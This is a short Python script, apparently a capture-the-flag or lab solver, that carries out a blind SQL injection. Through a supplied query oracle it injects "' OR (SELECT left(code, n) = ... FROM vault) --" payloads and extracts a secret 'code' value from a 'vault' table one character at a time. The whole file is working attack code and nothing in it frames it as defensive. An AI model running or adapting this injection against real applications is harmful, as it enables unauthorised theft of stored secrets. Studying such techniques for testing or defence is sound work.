SIGNS = "abcdefghijklmnopqrstuvwxyz" + "".join(chr(number) for number in range(33, 97)) + "{|}~"


def find(ask):
    code = ""
    while True:
        for sign in SIGNS:
            known = (code + sign).replace("'", "''")
            if ask(f"' OR (SELECT left(code, {len(code) + 1}) = '{known}' FROM vault) --"):
                code += sign
                break
        else:
            return code
